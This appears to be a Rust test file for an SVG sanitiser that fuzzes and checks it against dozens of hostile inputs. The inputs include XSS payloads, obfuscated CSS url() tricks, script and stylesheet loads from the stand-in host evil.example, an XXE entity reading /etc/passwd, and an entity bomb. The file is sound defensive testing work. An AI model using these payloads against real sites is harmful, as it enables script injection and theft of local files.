//! Files that try something, and files as people export them.

use proptest::prelude::*;

use super::{is_plain_style, sanitise};

/// Runs what is inside of an `<svg>` through, and answers what is left.
fn left(inside: &str) -> String {
    whole(&format!(
        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">{inside}<rect id="r"/></svg>"#
    ))
}

fn whole(file: &str) -> String {
    String::from_utf8(sanitise(file.as_bytes()).expect(file).bytes).expect("UTF-8")
}

/// Nothing of these is ever in what is kept, whatever came in.
fn assert_harmless(kept: &str) {
    let lower = kept.to_ascii_lowercase();
    for bad in [
        "<script",
        "javascript:",
        "<foreignobject",
        "<iframe",
        "<image",
        "<feimage",
        "<a ",
        "<a>",
        "<animate",
        "<set",
        "<!",
        "<?",
        "@import",
        "@font-face",
        "http:",
        "https:",
        "//",
        "data:",
        "expression(",
        "image-set(",
        "xlink",
        "src(",
        "<handler",
        "<embed",
    ] {
        // The one address that an SVG file must have is the name of its own language.
        let without_name = lower.replacen("http://www.w3.org/2000/svg", "", 1);
        assert!(!without_name.contains(bad), "{bad} in {kept}");
    }
    for attribute in kept.split(['<', ' ', '\n', '\t']).filter_map(|part| part.split_once('=')).map(|(name, _)| name) {
        assert!(!attribute.to_ascii_lowercase().starts_with("on"), "{attribute} in {kept}");
    }
    assert!(lower.split("href=\"").skip(1).all(|rest| rest.starts_with('#')), "{kept}");
    assert!(
        lower
            .split("url(")
            .skip(1)
            .all(|rest| rest.trim_start_matches(['"', '\'', ' ']).trim_start_matches("&quot;").starts_with('#')),
        "{kept}"
    );
}

#[test]
fn what_acts_loads_or_leads_away_is_gone() {
    for hostile in [
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        r#"<script xlink:href="https://evil.example/x.js"/>"#,
        r#"<rect onclick="alert(1)" ONLOAD="alert(2)" width="1" height="1"/>"#,
        r#"<g onmouseover="alert(1)"><circle r="1" onfocusin="x()"/></g>"#,
        r#"<a href="javascript:alert(1)"><text>click</text></a>"#,
        r#"<a xlink:href="&#106;avascript:alert(1)"><rect/></a>"#,
        r#"<use href="https://evil.example/a.svg#x"/>"#,
        r#"<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/>"#,
        r#"<use href="//evil.example/#x"/><use href="/other.svg#x"/>"#,
        r#"<image href="https://evil.example/track.gif"/>"#,
        r#"<image href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>"#,
        r#"<filter id="f"><feImage href="http://evil.example/"/></filter>"#,
        r#"<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>"#,
        r#"<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>"#,
        r#"<set attributeName="onmouseover" to="alert(1)"/><animate attributeName="href" values="javascript:alert(1)"/>"#,
        r#"<animate attributeName="fill" begin="0s" from="red" to="url(https://evil.example)"/>"#,
        r#"<style>@import "https://evil.example/x.css";</style>"#,
        r#"<style>@import url(//evil.example/x.css); .a{fill:red}</style>"#,
        r#"<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>"#,
        r#"<style>.a{background:image-set("https://evil.example/a.png" 1x)}</style>"#,
        r#"<style>.a{background:-webkit-image-set('//evil.example/a.png' 1x)}</style>"#,
        r#"<style>.a{fill:u\72l(https://evil.example/x)}</style>"#,
        r#"<style>.a{fill:ur/**/l(https://evil.example/x)} .b{behavior:url(#default#time2)}</style>"#,
        r#"<style><![CDATA[.a{fill:url(https://evil.example/x)}]]></style>"#,
        r#"<style>.a{fill:u&#114;l(https://evil.example/x)} .b{width:expression(alert(1))}</style>"#,
        r#"<style>.a{}</style><style type="text/css">x<script>alert(1)</script></style>"#,
        r#"<rect style="fill:url(https://evil.example/#x)"/><rect style="background:src('x.png')"/>"#,
        r#"<rect fill="url(https://evil.example/#x)" filter="url('//evil.example/#f')"/>"#,
        r#"<rect fill="URL( &quot;https://evil.example/#x&quot; )" mask="url(/m#a)" clip-path="url(x.svg#c)"/>"#,
        "<?xml-stylesheet href=\"https://evil.example/x.css\"?><rect/>",
        "<!-- <script>alert(1)</script> --><rect/>",
        r#"<handler type="text/javascript">alert(1)</handler><embed src="https://evil.example/"/>"#,
        r#"<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>"#,
        r#"<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>"#,
        r#"<text data-x="https://evil.example/" aria-label="ok">t</text>"#,
        "<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>",
    ] {
        let kept = left(hostile);
        assert_harmless(&kept);
        assert!(kept.contains(r#"id="r""#), "{hostile} took the drawing along: {kept}");
        assert_eq!(whole(&kept), kept, "cleaning again changes nothing");
    }
}

#[test]
fn what_draws_stays() {
    let file = r##"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
        <svg version="1.1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120px" height="40px" viewBox="0 0 60.5 20">
        <title>Northwind &amp; Sons</title>
        <defs><style>.st0{fill:#0F766E;stroke:rgb(1,2,3)} .st1{fill:url(#g)}</style>
        <linearGradient id="g" gradientTransform="rotate(45)"><stop offset="0" stop-color="#fff" style="stop-opacity:.5"/></linearGradient></defs>
        <g transform="translate(1 2) scale(1.5)"><path class="st0" d="M0 0L10 10z"/><use xlink:href="#p" fill="url(#g)"/></g>
        <text x="1" y="2" font-family="Inter, 'Segoe UI'">N &lt; W</text></svg>"##;
    let drawing = sanitise(file.as_bytes()).expect("a plain drawing");
    assert_eq!((drawing.width, drawing.height), (61, 20));
    let kept = String::from_utf8(drawing.bytes).expect("UTF-8");
    for piece in [
        r##"xmlns="http://www.w3.org/2000/svg""##,
        r##"viewBox="0 0 60.5 20""##,
        "Northwind &amp; Sons",
        ".st0{fill:#0F766E;stroke:rgb(1,2,3)} .st1{fill:url(#g)}",
        r##"gradientTransform="rotate(45)""##,
        r##"style="stop-opacity:.5""##,
        r##"d="M0 0L10 10z""##,
        r##"href="#p""##,
        r##"fill="url(#g)""##,
        "N &lt; W",
    ] {
        assert!(kept.contains(piece), "{piece} is gone: {kept}");
    }
    assert_harmless(&kept);
    assert_eq!(whole(&kept), kept);
}

#[test]
fn bombs_and_what_is_no_drawing_is_refused() {
    let svg = |inside: &str| format!(r#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1">{inside}</svg>"#);
    let laughs = format!(r#"<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>{}"#, svg("<text>&b;</text>"));
    let external = format!(r#"<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{}"#, svg("<text>&x;</text>"));
    let external_dtd = format!(r#"<!DOCTYPE svg SYSTEM "x" [%y;]>{}"#, svg(""));
    for (file, word) in [
        (laughs, "entities"),
        (external, "entities"),
        (external_dtd, "entities"),
        (svg(&"<g>".repeat(100)), "well-formed"),
        (svg(&format!("{}{}", "<g>".repeat(100), "</g>".repeat(100))), "intricate"),
        (svg(&"<g/>".repeat(6_000)), "intricate"),
        (svg(&r##"<use href="#a"/>"##.repeat(40)), "re-uses"),
        (svg("<text>&undeclared;</text>"), "well-formed"),
        (r#"<svg xmlns="http://www.w3.org/2000/svg"/>"#.to_owned(), "no size"),
        (r#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 5"/>"#.to_owned(), "no size"),
        (r#"<html xmlns="http://www.w3.org/1999/xhtml"><svg/></html>"#.to_owned(), "well-formed"),
        (r#"<svg viewBox="0 0 1 1"><rect/></svg>"#.to_owned(), "well-formed"),
        (String::new(), "well-formed"),
    ] {
        let refused = sanitise(file.as_bytes()).expect_err(&file[..file.len().min(200)]);
        assert!(refused.contains(word), "{refused}: {}", &file[..file.len().min(200)]);
    }
    assert!(sanitise(b"<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\">\xff</svg>").is_err());
}

#[test]
fn a_style_that_loads_nothing_is_plain() {
    for good in [
        "",
        "fill:red",
        "fill:url(#a)",
        "fill: url( '#a' )",
        "transform:rotate(3deg) translate(1px,2px)",
        "color:RGBA(1,2,3,.4)",
        "(x)",
    ] {
        assert!(is_plain_style(good), "{good}");
    }
    for bad in [
        "url(x)",
        "fill:red)",
        "//x",
        "url(",
        "url(#",
        "src(#a)",
        "image(red)",
        "@media print{}",
        "a\\b",
        "ürl(#a)",
        "x-url(#a)",
        "JavaScript:x",
        "cross-fade(url(#a))",
    ] {
        assert!(!is_plain_style(bad), "{bad}");
    }
}

/// Pieces that attacks are made of, in any order.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::sample::select(vec![
            "<script>",
            "</script>",
            "<style>",
            "</style>",
            "<g>",
            "</g>",
            "<rect ",
            "/>",
            ">",
            "<",
            "onload=\"x()\"",
            " href=\"",
            "\"",
            "javascript:alert(1)",
            "url(",
            ")",
            "https://evil.example/x",
            "//evil.example",
            "#a",
            "@import ",
            "image-set(",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "&lt;",
            "&#60;",
            "&#x28;",
            "\\75rl(",
            "<foreignObject>",
            "</foreignObject>",
            "<use ",
            "<image ",
            "<a ",
            "</a>",
            "<set ",
            "style=\"",
            "fill=\"",
            "xlink:href=\"",
            "data:text/html,x",
            "<?xml-stylesheet ",
            "?>",
            "{",
            "}",
            ";",
            "'",
            "&quot;",
            "src(",
            "expression(",
        ])
        .prop_map(str::to_owned),
        "[ a-z0-9():;#@\\\\/<>\"'&=.-]{0,12}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 3_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn whatever_is_kept_is_harmless(pieces in prop::collection::vec(piece(), 0..14)) {
        let inside = pieces.concat();
        let file = format!(
            r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{inside}</svg>"#
        );
        // Most of them are not well-formed; those that are must come out clean and stay as they are.
        if let Ok(drawing) = sanitise(file.as_bytes()) {
            let kept = String::from_utf8(drawing.bytes).unwrap();
            let tags = kept.split('<').skip(1).filter_map(|tag| tag.split('>').next());
            for tag in tags {
                let lower = tag.to_ascii_lowercase().replace("http://www.w3.org/2000/svg", "");
                for bad in ["script", "foreignobject", "image", "javascript:", "https:", "//", "data:", "url(h", " on", "@", "xlink"] {
                    prop_assert!(!lower.contains(bad), "{bad} in {kept} from {inside}");
                }
            }
            let sheets = kept.split("<style>").skip(1).filter_map(|rest| rest.split("</style>").next());
            for sheet in sheets {
                prop_assert!(is_plain_style(&quick_xml::escape::unescape(sheet).unwrap()), "{sheet} from {inside}");
            }
            prop_assert_eq!(String::from_utf8(sanitise(kept.as_bytes()).unwrap().bytes).unwrap(), kept);
        }
    }

    #[test]
    fn attributes_that_try_something_are_dropped(value in "[ a-z0-9():;#@\\\\/.'-]{0,24}", name in "(fill|style|href|mask|filter|onclick|class|d)") {
        let kept = left(&format!(r#"<use {name}="{value}"/>"#));
        prop_assert!(!kept.contains("onclick"), "{kept}");
        if let Some(stays) = kept.split("<use ").nth(1).and_then(|rest| rest.split('>').next()) {
            let is_text = matches!(name.as_str(), "class" | "d");
            prop_assert!(is_text || !stays.contains("//") || !stays.contains('('), "{stays}");
        }
    }
}
